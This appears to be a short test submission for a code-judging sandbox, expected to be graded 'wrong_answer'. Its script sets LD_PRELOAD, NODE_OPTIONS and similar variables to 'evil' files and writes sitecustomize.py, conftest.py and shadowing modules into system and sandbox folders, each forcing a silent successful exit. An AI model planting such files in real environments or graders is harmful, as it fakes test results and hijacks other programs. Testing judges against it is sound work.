# verdict: wrong_answer
# expects: a secret
# tests: 2
import os

os.environ.update(LD_PRELOAD="/tmp/evil.so", PYTHONPATH="/tmp", NODE_OPTIONS="--require /tmp/evil.js", PYTHONSTARTUP="/tmp/sitecustomize.py")
for folder in ("/box", "/tmp", "/dev/shm", "/prog", "/usr/lib/python3", "/assay/languages/python"):
    for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "json.py", "values.py", "re.py"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("import os\nos._exit(0)\n")
        except OSError:
            pass
print("planted")
